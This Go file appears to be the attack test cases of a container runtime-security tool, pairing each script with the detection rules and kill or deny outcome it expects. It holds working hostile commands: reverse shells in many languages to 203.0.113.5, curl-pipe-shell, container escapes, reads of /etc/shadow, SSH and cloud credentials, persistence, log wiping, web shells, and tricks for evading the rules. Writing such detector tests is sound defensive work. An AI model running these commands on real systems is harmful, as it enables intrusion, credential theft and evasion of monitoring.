package attack

import (
	"slices"

	"github.com/bollwerk/bollwerk"
)

const (
	high   = bollwerk.SeverityHigh
	medium = bollwerk.SeverityMedium
	low    = bollwerk.SeverityLow
)

// timed bounds a script that would wait for its attacker for ever.
const timed = "timeout 5 "

func attacks() []attackCase {
	return slices.Concat(reverseShells(), mining(), naming(), execution(), escapes(), credentials(), persistence(), hiding(), others(), bringing(), servers(), onHost())
}

// Most command lines give a reverse shell away: the agent ends the process before it comes to
// the shell, or the kernel sees a shell on a connection first. What stands in a file only the
// kernel sees.
func reverseShells() []attackCase {
	shell := []string{"reverse-shell"}
	return []attackCase{
		{name: "reverse-file-bash", script: `printf 'exec 5<>/dev/tcp/203.0.113.5/4444\nsh -i <&5 >&5 2>&5\n' > /tmp/r; ` + timed + `bash /tmp/r`,
			rules: shell, least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied, noShell: true},
		{name: "reverse-file-python", script: `printf 'import socket,os\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nfor f in (0,1,2): os.dup2(s.fileno(),f)\nos.execv("/bin/sh",["sh","-i"])\n' > /tmp/r; ` + timed + `python3 /tmp/r`,
			rules: shell, least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied, noShell: true},
		{name: "reverse-bash", script: timed + `bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
		{name: "reverse-fifo", script: timed + `bash -c 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-python", script: timed + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
		{name: "reverse-python-pty", script: timed + `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-python-each", script: timed + `python3 -c 'import socket,subprocess
s=socket.create_connection(("203.0.113.5",4444))
for l in s.makefile(): s.send(subprocess.run(l,shell=True,capture_output=True).stdout+b"\n")'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-perl", script: timed + `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
		{name: "reverse-ruby", script: timed + `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5",4444);exec("/bin/sh",:in=>c,:out=>c,:err=>c)'`, rules: shell, least: high, outcome: bollwerk.Killed, first: true},
		{name: "reverse-php", script: timed + `php -r '$s=fsockopen("203.0.113.5",4444);proc_close(proc_open("/bin/sh -i",[0=>$s,1=>$s,2=>$s],$p));'`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-socat", script: timed + `socat tcp:203.0.113.5:4444 exec:'/bin/sh -i',pty,stderr`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-socat-plain", script: timed + `socat tcp:203.0.113.5:4444 exec:/bin/sh`, rules: shell, least: high, outcome: bollwerk.Killed},
		{name: "reverse-node", script: timed + `node -e 'const n=require("net"),c=require("child_process"),s=c.spawn("/bin/sh",[]),k=n.connect(4444,"203.0.113.5",()=>{k.pipe(s.stdin);s.stdout.pipe(k);s.stderr.pipe(k)})'`, rules: shell, least: high, outcome: bollwerk.Killed},
	}
}

func mining() []attackCase {
	return []attackCase{
		{name: "miner-protocol", script: timed + `python3 -c 'import socket;s=socket.create_connection(("203.0.113.5",3333));s.send(b"{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"44Ab\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n");s.settimeout(2);print("answer",s.recv(1))'`,
			rules: []string{"miner"}, least: high, outcome: bollwerk.Denied},
		{name: "miner-command", script: `cp /bin/sleep /tmp/xmrig; bash -c 'exec -a /tmp/xmrig sleep 0.2 -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ -p x' || true`,
			rules: []string{"miner-command-line"}, least: high},
		{name: "miner-names", script: `for h in pool.minexmr.com xmr.pool.minergate.com pool.supportxmr.com; do getent hosts $h; done`, rules: []string{"miner"}, least: high},
	}
}

func naming() []attackCase {
	return []attackCase{
		{name: "dns-tunnel", script: `python3 -c '
import socket,os,base64
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(1)
for i in range(300):
  l=base64.b32encode(os.urandom(35)).decode().strip("=").lower();l2=base64.b32encode(os.urandom(30)).decode().strip("=").lower()
  n=b"".join(bytes([len(x)])+x.encode() for x in (l,l2,"t","evil-tunnel","com"))+b"\0"
  s.sendto(os.urandom(2)+b"\1\0\0\1\0\0\0\0\0\0"+n+b"\0\x10\0\1",("203.0.113.53",53))
  try: s.recv(4096)
  except OSError: pass'`, rules: []string{"dns-tunnel"}, least: medium},
		{name: "dns-generated", script: `python3 -c '
import socket,random
random.seed(7)
for i in range(120):
  n="nx"+"".join(random.choice("bcdfghjklmnpqrstvwxzaeiou") for _ in range(14))+random.choice([".com",".net",".info",".biz",".ru"])
  try: socket.getaddrinfo(n,80)
  except OSError: pass'`, rules: []string{"generated-domains"}, least: medium},
	}
}

func execution() []attackCase {
	return []attackCase{
		{name: "fileless-python", script: `python3 -c 'import os
f=os.memfd_create("x",1);os.write(f,open("/bin/echo","rb").read());os.execve(f,["kworker","fileless-ran"],{})'`,
			rules: []string{"fileless-execution"}, least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "fileless-ran"},
		{name: "fileless-deleted", script: `cp /bin/echo /tmp/e; exec 9</tmp/e; rm /tmp/e; /proc/self/fd/9 fileless-ran`,
			rules: []string{"fileless-execution", "drift-execution"}, least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "fileless-ran"},
		{name: "drift", script: `cp /bin/echo /usr/bin/helper; /usr/bin/helper drift-ran`,
			rules: []string{"drift-execution"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "drift-ran"},
		{name: "drift-modified", script: `cat /bin/echo > /usr/bin/w; /usr/bin/w modified-ran`,
			rules: []string{"modified-program"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "modified-ran"},
		{name: "drift-tmp", script: `cp /bin/echo /tmp/x; /tmp/x drift-ran`,
			rules: []string{"execution-from-temporary-folder"}, also: []string{"drift-execution"}, least: medium, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "drift-ran"},
		{name: "shared-memory", script: `cp /bin/echo /dev/shm/x; /dev/shm/x shm-ran`, opts: []option{runnableMemory}, rules: []string{"execution-from-shared-memory"}, least: medium},
		{name: "download-and-run", script: timed + `bash -c 'exec 3<>/dev/tcp/203.0.113.5/80; cat <&3 | tail -n 2 > /tmp/d.sh; chmod +x /tmp/d.sh; /tmp/d.sh'`,
			rules: []string{"download-and-run", "execution-from-temporary-folder", "drift-execution"}, least: medium},
		{name: "decode-and-run", script: `echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d | sh`, rules: []string{"decode-and-run", "decode-and-run-command"}, least: medium},
		{name: "curl-pipe-shell", script: timed + `curl -s http://203.0.113.5/x | sh`, rules: []string{"download-and-run", "decode-and-run", "download-and-run-command"}, least: medium},
		{name: "preload", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so /bin/true`, rules: []string{"preload-from-environment"}, least: medium},
		{name: "mapped-library", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /dev/shm/evil.so; LD_PRELOAD=/dev/shm/evil.so /bin/true`, opts: []option{runnableMemory},
			rules: []string{"library-from-shared-memory"}, least: medium},
		{name: "preload-opt", script: `mkdir -p /opt/l; cp /lib/x86_64-linux-gnu/libc.so.6 /opt/l/evil.so; LD_PRELOAD=/opt/l/evil.so /bin/true`, rules: []string{"preload-made-at-run-time"}, least: high},
		{name: "library-path", script: `mkdir -p /opt/m; cp /lib/x86_64-linux-gnu/libc.so.6 /opt/m/; LD_LIBRARY_PATH=/opt/m /bin/true`, rules: []string{"library-path-of-an-intruder"}, least: medium},
		{name: "decode-file", script: `echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d > /tmp/f; sh /tmp/f`, rules: []string{"decode-and-run"}, least: medium},
		{name: "decode-variable", script: `x=$(echo ZWNobyBkZWNvZGVkLXJhbgo= | base64 -d); echo "$x" | sh`, rules: []string{"decode-and-run"}, least: medium},
		{name: "preload-file", script: `echo /tmp/evil.so > /etc/ld.so.preload`, rules: []string{"preload-for-all-programs"}, least: high},
	}
}

func escapes() []attackCase {
	return []attackCase{
		{name: "core-pattern", script: `cat /proc/sys/kernel/core_pattern > /tmp/c; echo '|/tmp/evil' > /proc/sys/kernel/core_pattern && echo pattern-written; cat /tmp/c > /proc/sys/kernel/core_pattern`,
			opts: []option{privileged}, rules: []string{"kernel-setting-from-container"}, least: high, outcome: bollwerk.Denied, lsm: bollwerk.Denied, proof: "pattern-written"},
		{name: "release-agent", script: `mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg 2>/dev/null || mount -t cgroup -o pids cgroup /tmp/cg 2>/dev/null || mount -t cgroup -o none,name=x cgroup /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; echo /cmd > /tmp/cg/release_agent; rmdir /tmp/cg/x; umount /tmp/cg`,
			opts: []option{privileged}, rules: []string{"kernel-setting-from-container"}, once: "kernel-setting-from-container", least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied},
		{name: "nsenter", script: `nsenter -t 1 -m -u -i -n true || nsenter -t 2 -m true; nsenter -t 1 -m true`, opts: []option{privileged, hostPID},
			rules: []string{"namespace-tool-in-container"}, also: []string{"host-namespace-entered"}, least: high},
		{name: "proc-root", script: `cat /proc/1/root/etc/hostname; cat /proc/2/root/etc/shadow > /dev/null`, opts: []option{privileged, hostPID}, rules: []string{"host-files-through-proc"}, also: []string{"password-file-read"}, least: medium},
		{name: "host-mount", script: `mkdir /tmp/m; mount -t tmpfs none /tmp/m && mount --bind /proc /tmp/m`, opts: []option{privileged}, rules: []string{"mount-in-container"}, least: medium},
		{name: "docker-socket", script: `rm -f /run/docker.sock; socat unix-listen:/run/docker.sock,fork exec:/bin/true & while [ ! -S /run/docker.sock ]; do :; done; curl -s --max-time 1 --unix-socket /run/docker.sock http://x/containers/json; kill %1`,
			rules: []string{"container-runtime-socket"}, least: medium},
		{name: "module", script: `head -c 4096 /dev/zero > /tmp/x.ko; python3 -c 'import ctypes,os;l=ctypes.CDLL(None);f=os.open("/tmp/x.ko",0);print(l.syscall(313,f,b"",0))'`, opts: []option{privileged},
			rules: []string{"kernel-module-from-container"}, hidden: "module", least: high, lsm: bollwerk.Denied},
		{name: "module-real", script: `insmod /modules/dummy.ko; grep -q '^dummy ' /proc/modules && echo module-loaded`, opts: []option{privileged},
			rules: []string{"kernel-module-from-container"}, hidden: "module", least: high, lsm: bollwerk.Denied, proof: "module-loaded"},
		{name: "module-from-memory", script: `python3 -c 'import ctypes;l=ctypes.CDLL(None);b=open("/modules/dummy.ko","rb").read();l.syscall(175,b,len(b),b"")'; grep -q '^dummy ' /proc/modules && echo module-loaded`, opts: []option{privileged},
			rules: []string{"kernel-module-from-container"}, hidden: "module", least: high, lsm: bollwerk.Denied, proof: "module-loaded"},
		{name: "kernel-memory", script: `head -c 64 /proc/kcore > /tmp/k`, opts: []option{privileged}, rules: []string{"physical-memory-opened"}, least: medium, needs: "/proc/kcore"},
		{name: "device-memory", script: `mknod /dev/mem c 1 1; head -c 64 /dev/mem > /tmp/k`, opts: []option{privileged}, rules: []string{"physical-memory-opened"}, least: medium},
		{name: "bpf-load", script: `python3 -c '
import ctypes,struct
l=ctypes.CDLL(None,use_errno=True);i=ctypes.create_string_buffer(bytes.fromhex("b700000000000000")+bytes.fromhex("9500000000000000"));g=ctypes.create_string_buffer(b"GPL")
a=ctypes.create_string_buffer(struct.pack("IIQQ",1,2,ctypes.addressof(i),ctypes.addressof(g))+bytes(96))
print(l.syscall(321,5,a,120),ctypes.get_errno())'`, opts: []option{privileged}, rules: []string{"bpf-load-from-container"}, least: medium},
		{name: "user-namespace", script: `unshare -Ur true`, rules: []string{"user-namespace-made"}, least: low},
	}
}

func credentials() []attackCase {
	return []attackCase{
		{name: "shadow", script: `cat /etc/shadow > /dev/null`, rules: []string{"password-file-read"}, least: medium},
		{name: "ssh-key", script: `mkdir -p /root/.ssh; echo KEY > /root/.ssh/id_rsa; sleep 0.2; cat /root/.ssh/id_rsa`, rules: []string{"private-key-read"}, least: medium},
		{name: "ssh-key-service", script: `mkdir -p /var/lib/app/.ssh; echo KEY > /var/lib/app/.ssh/id_rsa; sleep 0.3; cat /var/lib/app/.ssh/id_rsa`, rules: []string{"private-key-read"}, least: high},
		{name: "ssh-key-srv", script: `mkdir -p /srv/keys; echo KEY > /srv/keys/id_ed25519; sleep 0.3; cat /srv/keys/id_ed25519`, rules: []string{"private-key-read"}, least: high},
		{name: "cloud-key", script: `mkdir -p /root/.aws; echo x > /root/.aws/credentials; sleep 0.2; cat /root/.aws/credentials`, rules: []string{"cloud-credential-read"}, least: medium},
		{name: "environ", script: `sleep 60 & cat /proc/1/environ > /dev/null; cat /proc/$!/environ | tr '\0' '\n' > /dev/null`, rules: []string{"environment-of-others-read"}, least: low},
		{name: "process-memory", script: `sleep 60 & python3 -c 'import sys;open("/proc/%s/mem"%sys.argv[1],"rb")' $!`, opts: []option{privileged}, rules: []string{"process-memory-opened"}, least: medium},
		{name: "metadata", script: timed + `curl -s http://169.254.169.254/latest/meta-data/iam/ || bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'`, rules: []string{"metadata-service-by-tool"}, also: []string{"metadata-service-contact"}, least: medium},
		{name: "api-server", script: timed + `curl -sk https://10.96.0.1:443/api`, rules: []string{"kubernetes-api-by-tool"}, least: low},
		{name: "kubelet", script: timed + `curl -sk https://10.96.0.1:10250/pods; true`, rules: []string{"control-plane-contact"}, least: medium},
		{name: "token", script: `echo x > /run/secrets/kubernetes.io/serviceaccount/token; sleep 0.2; python3 -c 'open("/run/secrets/kubernetes.io/serviceaccount/token").read()'`,
			opts: []option{serviceAccount}, rules: []string{"service-account-token-read"}, least: medium},
	}
}

func persistence() []attackCase {
	return []attackCase{
		{name: "cron", script: `mkdir -p /etc/cron.d; sleep 0.2; echo '* * * * * root /tmp/x' > /etc/cron.d/x`, rules: []string{"scheduled-task-written"}, least: medium},
		{name: "authorized-keys", script: `mkdir -p /root/.ssh; sleep 0.2; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: medium},
		{name: "authorized-keys-at-once", script: `mkdir -p /root/.ssh; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys; true`, rules: []string{"authorized-keys-written"}, least: high, by: "bash"},
		{name: "authorized-keys-moved", script: `echo ssh-rsa AAAA > /tmp/k; mkdir -p /home/new/.ssh; mv /tmp/k /home/new/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: high},
		{name: "authorized-keys-service", script: `mkdir -p /var/lib/app/.ssh; echo ssh-rsa AAAA >> /var/lib/app/.ssh/authorized_keys`, rules: []string{"authorized-keys-written"}, least: high},
		{name: "shell-profile", script: `echo 'curl x|sh' >> /root/.bashrc`, rules: []string{"shell-startup-written"}, least: low},
		{name: "unit", script: `mkdir -p /etc/systemd/system; echo '[Service]' > /etc/systemd/system/x.service`, rules: []string{"service-unit-written"}, least: medium},
		{name: "set-uid", script: `cp /bin/bash /usr/bin/rootsh; chmod u+s /usr/bin/rootsh`, rules: []string{"setuid-bit-set"}, least: medium},
		{name: "set-uid-home", script: `cp /bin/bash /home/r; chmod 4755 /home/r`, rules: []string{"setuid-bit-set"}, least: high},
		{name: "account", script: `echo 'evil::0:0::/:/bin/sh' >> /etc/passwd`, rules: []string{"account-file-written"}, least: medium},
	}
}

func hiding() []attackCase {
	return []attackCase{
		{name: "log-deletion", script: `mkdir -p /var/log; echo x > /var/log/auth.log; sleep 0.2; rm -f /var/log/auth.log; : > /var/log/wtmp`, rules: []string{"log-removed"}, least: low},
		{name: "history", script: `touch /root/.bash_history; sleep 0.2; rm -f /root/.bash_history`, rules: []string{"history-removed"}, least: low},
		{name: "bulk-deletion", script: `for d in a b c d e f; do mkdir -p /home/u/$d; for i in $(seq 60); do echo x > /home/u/$d/f$i.sql; done; done; sleep 0.3; rm -rf /home/u`, rules: []string{"bulk-deletion"}, least: medium},
		{name: "bulk-one-folder", script: `mkdir -p /srv/share; for i in $(seq 600); do echo x > /srv/share/f$i; done; sleep 0.3; find /srv/share -type f -delete`, rules: []string{"bulk-deletion"}, least: medium},
		{name: "bulk-encryption", script: `mkdir -p /srv/share; for i in $(seq 80); do echo x > /srv/share/f$i.docx; done; sleep 0.3; for f in /srv/share/*; do mv $f $f.locked; done`, rules: []string{"bulk-deletion"}, least: high},
		{name: "link", script: `for i in $(seq 20); do ln -s /etc/shadow /tmp/s$i; ln /etc/passwd /tmp/p$i 2>/dev/null; sleep 0.2; done`, rules: []string{"link-to-sensitive-file"}, least: low},
	}
}

func others() []attackCase {
	return []attackCase{
		{name: "ptrace", script: `sleep 60 & python3 -c 'import ctypes,sys;l=ctypes.CDLL(None);print(l.ptrace(16,int(sys.argv[1]),0,0));import time;time.sleep(1)' $!`, opts: []option{privileged},
			rules: []string{"process-traced-in-container"}, least: medium},
		{name: "raw-socket", script: `python3 -c 'import socket;socket.socket(socket.AF_INET,socket.SOCK_RAW,1)'; python3 -c 'import socket;socket.socket(socket.AF_PACKET,socket.SOCK_RAW,3)'`, opts: []option{privileged},
			rules: []string{"raw-socket-in-container"}, least: low},
		{name: "package-manager", script: `apt-get --version; dpkg -l > /dev/null; apt-get install -y --no-download nothing-here`, rules: []string{"package-manager-in-container"}, least: low},
		{name: "network-tool", script: `nc -h; true`, rules: []string{"network-tool-in-container"}, least: low},
		{name: "terminal", script: `script -qc 'bash -ic true' /dev/null < /dev/null; true`, rules: []string{"terminal-shell-in-container"}, least: low},
		{name: "ssh-fan-out", script: timed + `python3 -c '
import socket
for i in range(1,120):
  s=socket.socket();s.settimeout(0.02)
  try: s.connect(("10.77.%d.%d"%(i//50,i),22))
  except OSError: pass
  s.close()'`, rules: []string{"network-scan"}, also: []string{"ssh-from-container"}, least: medium},
		{name: "port-scan", script: timed + `python3 -c '
import socket
for p in range(1,400):
  s=socket.socket();s.settimeout(0.05)
  try: s.connect(("10.77.0.2",p))
  except OSError: pass
  s.close()'`, rules: []string{"network-scan"}, least: low},
		// Ways past the rules: another name, the loader, a script without a file, a server behind a proxy.
		{name: "past-name", script: `ln -s /bin/cat /home/sshd; ln -s /bin/bash /home/dpkg; /home/dpkg -c '/home/sshd /etc/shadow > /dev/null; true'`, rules: []string{"password-file-read"}, least: high},
		{name: "past-drift", script: `cp /bin/echo /home/z; bash -c '/home/z drift-ran; true' pip`, rules: []string{"drift-execution"}, least: high, outcome: bollwerk.Killed, lsm: bollwerk.Denied, proof: "drift-ran"},
		{name: "past-loader", script: `cp /bin/echo /home/z; chmod -x /home/z; /lib64/ld-linux-x86-64.so.2 /home/z loaded`, rules: []string{"program-through-loader"}, least: high},
		{name: "past-files", script: `python3 -c 'import os
f=os.memfd_create("x",0);os.write(f,b"#!/bin/sh\ntrue\n");os.execve("/proc/self/fd/%d"%f,["x"],{})'`, rules: []string{"execution-from-shared-memory", "fileless-execution"}, least: high},
		{name: "past-proxy", script: `timeout 10 node -e 'require("http").createServer((q,r)=>require("child_process").exec(decodeURIComponent(q.url.slice(1)),(e,o)=>r.end(o))).listen(8098,"127.0.0.1")' & for i in $(seq 80); do curl -s http://127.0.0.1:8098/id && break; sleep 0.1; done; for c in whoami uname%20-a; do curl -s http://127.0.0.1:8098/$c; done; kill %1`,
			rules: []string{"web-shell"}, least: high},
		{name: "web-shell", script: `mkdir /tmp/w; echo '<?php system($_GET["c"]);' > /tmp/w/i.php; php -S 127.0.0.1:8099 -t /tmp/w 2>/dev/null & for i in $(seq 50); do curl -s 'http://127.0.0.1:8099/i.php?c=id;uname+-a' && break; sleep 0.1; done; kill %1`,
			rules: []string{"web-shell", "shell-from-server"}, least: medium},
	}
}
